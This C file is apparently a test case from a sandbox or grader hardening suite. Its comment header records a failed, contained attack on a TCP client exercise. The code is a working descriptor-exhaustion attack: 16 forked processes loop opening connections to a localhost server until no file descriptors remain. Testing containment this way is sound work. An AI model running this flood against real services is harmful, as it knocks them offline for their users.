// attack: opens connections, in several processes, until there are no descriptors left on either side
// exercise: tcp-capitalize-client
// verdict: failed
// contained: A B C D E
// cause: output-flood
// case: sends-the-text
// places: A AFewDescriptors B E
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[argc > 2 ? 2 : 1]))};
    server.sin_addr.s_addr = inet_addr("127.0.0.1");
    printf("tried\n");
    fflush(stdout);
    for (int i = 0; i < 16; ++i)
        if (fork() == 0)
            for (;;) {
                int s = socket(AF_INET, SOCK_STREAM, 0);
                if (s < 0 || connect(s, (struct sockaddr *)&server, sizeof server) < 0) pause();
            }
    pause();
}
